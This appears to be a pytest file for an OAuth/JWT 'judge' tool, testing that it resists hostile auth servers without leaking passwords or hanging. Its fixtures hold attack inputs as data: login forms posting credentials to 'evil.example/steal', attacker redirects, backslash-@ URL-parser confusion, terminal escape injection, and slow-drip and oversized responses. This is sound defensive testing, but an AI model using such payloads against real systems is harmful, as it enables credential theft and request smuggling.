"""``jwtflow judge`` on a system that attacks the judge, which sends nothing away and ends."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from itertools import repeat

import pytest
from flask import Flask, Response, redirect

from jwtflow.course.lessons.nb06_guard_the_resource import judged_api
from jwtflow.judge import JudgeError, Report, System, judge_system, pages, visit
from jwtflow.judge.report import NOT_SEEN, OPEN
from jwtflow.judge.table import OpenError, Stage
from jwtflow.web.serving import LoopbackServer
from tests.services import free_port

ELSEWHERE = "http://evil.example"
FORM = '<form action="{}" method="{}"><input name="u"><input type="password" name="p"></form>'


@pytest.fixture
def looked_up(monkeypatch):
    """The hosts that somebody wants to reach, but for this one, which are not found."""
    seen = []
    find = socket.getaddrinfo

    def noting(host, *arguments, **named):
        if host == "127.0.0.1":
            return find(host, *arguments, **named)
        seen.append(host)
        raise socket.gaierror

    monkeypatch.setattr(socket, "getaddrinfo", noting)
    return seen


@pytest.fixture
def system():
    """Serves an auth server whose pages a test chooses."""
    servers = []

    def serve(page, *, login=lambda: ("", 404), **metadata):
        app = Flask("hostile")
        port = free_port()
        url = f"http://127.0.0.1:{port}"
        names = {"authorization_endpoint": f"{url}/authorize", "token_endpoint": f"{url}/token"}
        app.add_url_rule("/authorize", "page", page)
        app.add_url_rule("/login", "login", login, methods=["POST"])
        app.add_url_rule(
            "/.well-known/oauth-authorization-server", "names", lambda: {**names, **metadata}
        )
        server = LoopbackServer(app, name="hostile", port=port)
        server.start()
        servers.append(server)
        return System(auth=url, resource=url)

    yield serve
    for server in servers:
        server.stop()


def judged(system: System, stage: Stage = Stage.ENDPOINT) -> Report:
    """One part of its report card; by default one that needs codes."""
    return judge_system(system, stages=[stage])


@pytest.mark.parametrize(
    "page",
    [
        lambda: FORM.format(f"{ELSEWHERE}/steal", "post"),
        lambda: FORM.format("//evil.example", "get"),
        lambda: FORM.format(r"http://evil.example\@127.0.0.1/", "post"),
        lambda: FORM.format("http://[evil/", "post"),
        lambda: FORM.format("/authorize", "po st"),
        lambda: redirect(f"{ELSEWHERE}/login"),
        lambda: Response(repeat(bytes(2**16)), mimetype="text/html"),
    ],
)
def test_whatever_its_page_is_no_password_leaves_this_machine(system, looked_up, page):
    """A form, a redirect or an endless page ends in open rows, and is sent nowhere else."""
    assert judged(system(page)).open_rows
    assert looked_up == []


@pytest.mark.parametrize("wait", ["Wed, 21 Oct 2037 07:28:00 GMT", "-5", "²", ""])
def test_a_wait_that_is_no_number_of_seconds_is_short(system, monkeypatch, wait):
    """A login that is throttled until a date, or for no time, is asked again after a second."""
    waited = []
    monkeypatch.setattr(time, "sleep", waited.append)
    throttled = ("", 429, {"Retry-After": wait})
    report = judged(system(lambda: "", login=lambda: throttled), Stage.REFRESH)
    assert [row.state for row in report.rows] == [NOT_SEEN] * len(report.rows)
    assert set(waited) == {1}


@pytest.mark.parametrize("endpoint", [r"http://evil.example\@127.0.0.1:1/", "http://[evil/", ""])
def test_an_endpoint_is_where_it_would_be_asked(system, looked_up, endpoint):
    """Metadata that two parsers of URLs read in two ways sends the judge nowhere."""
    with pytest.raises(JudgeError, match=r"token_endpoint: .* is not on loopback"):
        judged(system(lambda: "", token_endpoint=endpoint))
    assert looked_up == []


@pytest.mark.parametrize("url", [r"http://evil.example\@127.0.0.1:5001", "http://[evil:80", "x"])
def test_a_url_that_can_be_read_in_two_ways_is_not_on_loopback(url):
    """What the options name is read as the library reads it that connects."""
    with pytest.raises(JudgeError, match="is not on loopback"):
        System(auth=url, resource="http://127.0.0.1:5002")


def test_what_it_says_moves_no_cursor(system):
    """Control characters of an answer aren't on the card, where a terminal would obey them."""
    rude = ({"error": "\x1b[1A\x1b[2Kclosed\r\n"}, 400)
    report = judged(system(lambda: rude))
    assert any("closed" in row.seen for row in report.rows)
    assert all(row.seen.isprintable() for row in report.rows)


def test_a_wait_of_thousands_of_digits_is_short(system, monkeypatch):
    """More digits than Python makes a number of are no number of seconds."""
    waited = []
    monkeypatch.setattr(time, "sleep", waited.append)
    throttled = ("", 429, {"Retry-After": "9" * 5000})
    assert judged(system(lambda: "", login=lambda: throttled), Stage.REFRESH).rows
    assert waited == [1]


def test_a_login_that_stays_throttled_is_waited_for_once(system, monkeypatch):
    """A minute's wait that didn't help isn't repeated for each row."""
    waited = []
    monkeypatch.setattr(time, "sleep", waited.append)
    throttled = ("", 429, {"Retry-After": "60"})
    assert len(judged(system(lambda: "", login=lambda: throttled), Stage.REFRESH).rows) > 1
    assert waited == [60]


@pytest.mark.parametrize(
    "page",
    [
        lambda: Response(FORM, content_type="text/html; charset=undefined"),
        lambda: Response(
            r'<form><input name="a" value="\ud800"></form>',
            content_type="text/html; charset=unicode_escape",
        ),
        lambda: Response("<![\x97", content_type="text/html"),
    ],
)
def test_a_page_that_cannot_be_read_is_an_open_row(system, page):
    """An odd encoding or odd markup is the system's own fault, and doesn't end the judge."""
    assert judged(system(page)).open_rows


def test_a_token_that_no_header_carries_is_an_open_row(system):
    """A token with letters that HTTP has no bytes for is the system's own fault too."""
    served = system(lambda: "")
    with pytest.raises(OpenError, match="HTTP can't carry"):
        visit.Visit(served).call("read", "\N{RIGHT-TO-LEFT OVERRIDE}")


def test_a_body_that_never_ends_is_too_slow(system, monkeypatch):
    """A body that comes a byte at a time, each within a socket's patience, is given up."""
    ended = threading.Event()

    def drips():
        while not ended.wait(0.02):
            yield b" "

    slow = system(lambda: Response(drips(), headers={"Content-Length": "4000"}))
    monkeypatch.setattr(visit, "SECONDS", 0.5)
    try:
        with pytest.raises(OpenError, match="takes too long"):
            visit.Visit(slow).ask("GET", f"{slow.auth}/authorize")
    finally:
        ended.set()


def test_headers_that_never_end_are_no_answer(monkeypatch):
    """The one request that needs a connection of its own is given up like all others."""
    ended = threading.Event()

    def drip():
        connection, _ = listener.accept()
        with connection, contextlib.suppress(OSError):
            connection.sendall(b"HTTP/1.1 200 OK\r\n")
            while not ended.wait(0.02):
                connection.sendall(b"A: b\r\n")

    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=drip, daemon=True).start()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        visiting = visit.Visit(System(auth=url, resource=url))
        visiting.access_token = "x"
        monkeypatch.setattr(judged_api, "SECONDS", 0.5)
        try:
            with pytest.raises(TimeoutError):
                judged_api.two_headers(visiting)
        finally:
            ended.set()


def test_a_cookie_longer_than_browsers_keep_is_not_read(system):
    """Python's parser of cookies may take square time, and a header has room for much."""
    long = {"Set-Cookie": "a=" + "b" * 4096}
    served = system(lambda: "", login=lambda: ({"access_token": "x"}, 200, long))
    assert {row.seen for row in judged(served, Stage.COOKIES).rows} == {"the login sets no cookies"}


def test_a_visit_ends_in_time(system, monkeypatch):
    """Once its time is over one row is open, and whatever comes after it isn't tried."""
    visits = []

    class Noted(visit.Visit):
        def __init__(self, *arguments):
            super().__init__(*arguments)
            visits.append(self)

    def page():
        visits[0].until = 0
        return FORM

    monkeypatch.setattr("jwtflow.judge.Visit", Noted)
    states = [row.state for row in judged(system(page), Stage.CODE).rows]
    assert states.index(OPEN) < 2
    assert set(states[states.index(OPEN) + 1 :]) == {NOT_SEEN}


def test_a_long_page_is_read_in_part():
    """A page of megabytes costs no more time than one that a login may have."""
    field = '<input name="a">'
    form = pages.first_form("<form>" + field * 2**17)
    assert 0 < len(form.fields) < 2**17
